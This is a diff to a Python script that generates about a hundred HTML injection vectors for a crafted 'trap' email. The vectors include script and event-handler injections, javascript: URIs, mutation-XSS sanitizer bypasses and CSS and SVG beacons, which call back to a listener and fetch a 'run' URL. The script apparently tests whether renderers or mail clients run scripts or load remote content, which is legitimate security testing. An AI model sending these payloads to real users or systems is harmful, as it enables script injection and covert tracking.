@@ -57,7 +57,7 @@ OWN = "document.title='owned';top.document.title='owned';fetch('{u}run')"
 
 
 def vectors(url: str) -> list[str]:
-    """Pieces of HTML; {u} is the listener's address, {o} a script that shows that it ran."""
+    """Pieces of HTML; {u} is the listener's address, {h} its host, {o} a script that shows that it ran."""
     pieces = """
         <script>{o}</script>
         <script src="{u}1.js"></script>
@@ -112,10 +112,60 @@ def vectors(url: str) -> list[str]:
         <template><img src="{u}54.png"></template>
         <button popovertarget="x" formaction="{u}55">f</button>
         <bgsound src="{u}56"><portal src="{u}57"></portal><fencedframe src="{u}58"></fencedframe>
+        <img src="//{h}/59.png"><img src="{u}60.png" crossorigin="use-credentials" srcset="{u}61.png 300w" sizes="10px">
+        <img src="data:image/svg+xml,%3Csvg xmlns='x' onload='{o}'%3E%3Cimage href='{u}62.png'/%3E%3C/svg%3E">
+        <svg><use xlink:href="{u}63.svg#a"/><image xlink:href="{u}64.png"/><feImage href="{u}65.png"/></svg>
+        <svg><a xlink:href="javascript:{o}"><text>svg</text></a><set attributeName="href" to="javascript:{o}"/></svg>
+        <svg><style>@import url({u}66.css);</style><handler ev:event="load">{o}</handler></svg>
+        <svg><animate xlink:href="#js" attributeName="href" values="javascript:{o}"/></svg>
+        <math href="javascript:{o}"><maction actiontype="x" xlink:href="javascript:{o}">math</maction></math>
+        <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={o}&gt;"></table></math>
+        <svg></p><style><a id="</style><img src=1 onerror={o}>"></svg>
+        <noscript><p title="</noscript><img src=x onerror={o}>"></noscript>
+        <![CDATA[<img src="{u}67.png" onerror="{o}">]]>
+        <!--><img src="{u}68.png" onerror="{o}"><!--[if gte IE 4]><script>{o}</script><![endif]-->
+        <?xml-stylesheet href="{u}69.css"?>
+        <link rel="prerender" href="{u}70"><link rel="preload" as="image" imagesrcset="{u}71.png 1x">
+        <link rel="alternate stylesheet" href="{u}72.css" title="x"><link rel="pingback" href="{u}73">
+        <link rel="stylesheet" href="data:text/css,@import url({u}74.css);">
+        <meta http-equiv="refresh" content="0;url=javascript:{o}">
+        <meta http-equiv="Link" content="<{u}75.css>;rel=stylesheet">
+        <meta http-equiv="x-dns-prefetch-control" content="on">
+        <script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{u}76"]}}]}}</script>
+        <script type="importmap">{{"imports":{{"x":"{u}77.js"}}}}</script>
+        <iframe src="data:text/html,<script>{o}</script>"></iframe><iframe src="//{h}/78"></iframe>
+        <object data="data:text/html,<script>{o}</script>"></object><embed src="data:image/svg+xml,<svg onload='{o}'/>">
+        <object type="text/html" data="{u}79"><param name="src" value="{u}80"></object>
+        <video><source src="//{h}/81.mp4"></video><audio controls src="{u}82.mp3"><track src="{u}83.vtt"></audio>
+        <style>@import "//{h}/84.css" layer(x); @import url("{u}85.css") print;</style>
+        <style>@font-face{{font-family:y;src:local("x"),url("{u}86.woff2")}} body{{font-family:y}}</style>
+        <style>p{{background:image-set("{u}87.png" 1x);border-image:url({u}88.png) 1;mask-image:url({u}89.png)}}</style>
+        <style>p{{filter:url({u}90.svg#a);clip-path:url({u}91.svg#a);shape-outside:url({u}92.png)}}</style>
+        <style>p{{background:-webkit-cross-fade(url({u}93.png),url({u}94.png),50%);cursor:url({u}95.cur),auto}}</style>
+        <style>p{{background:\75 rl({u}96.png);behavior:url({u}97.htc);-moz-binding:url({u}98.xml#x)}}</style>
+        <style>p::before{{content:url({u}99.png)}} li::marker{{content:url({u}100.png)}}</style>
+        <style>:visited,:link{{background:url({u}101.png)}}</style>
+        <p style="background:url(//{h}/102.png);list-style-image:url('{u}103.png');width:expression({o})">g</p>
+        <p style="animation:x 1s" onanimationstart="{o}">h</p>
+        <style>@keyframes x{{to{{background:url({u}104.png)}}}}</style>
+        <a href="JaVaScRiPt:{o}">a1</a><a href="java&Tab;script:{o}">a2</a><a href=" &#14; javascript:{o}">a3</a>
+        <a href="data:text/html,<script>{o}</script>">a4</a><a href="vbscript:x">a5</a><a href="blob:{u}1">a6</a>
+        <map name="m"><area href="javascript:{o}" shape="default"></map><img usemap="#m" src="x" alt="">
+        <form id="f" action="javascript:{o}"><button form="f" formaction="javascript:{o}">i</button></form>
+        <input type="image" formaction="{u}105" src="//{h}/106.png" srcset="{u}107.png">
+        <div contenteditable autofocus onfocus="{o}">j</div><input autofocus onfocus="{o}">
+        <keygen autofocus onfocus="{o}">
+        <xss onpointerrawupdate="{o}" oncontentvisibilityautostatechange="{o}">k</xss>
+        <template shadowrootmode="open"><img src="{u}108.png"><script>{o}</script></template>
+        <html manifest="{u}109" onclick="{o}"><body background="//{h}/110.png" onhashchange="{o}" onfocus="{o}">
+        <dialog open onclose="{o}"><form method="dialog"><button>l</button></form></dialog>
         <p>The end.</p>
+        <xmp><img src="{u}111.png" onerror="{o}"></xmp><noembed><img src="{u}112.png"></noembed>
+        <plaintext><img src="{u}113.png" onerror="{o}">
     """
     own = OWN.format(u=url)
-    return [line.strip().format(u=url, o=own) for line in pieces.strip().splitlines()]
+    host = url.split("/")[2]
+    return [line.strip().format(u=url, h=host, o=own) for line in pieces.strip().splitlines()]
 
 
 def trap(url: str) -> EmailMessage:
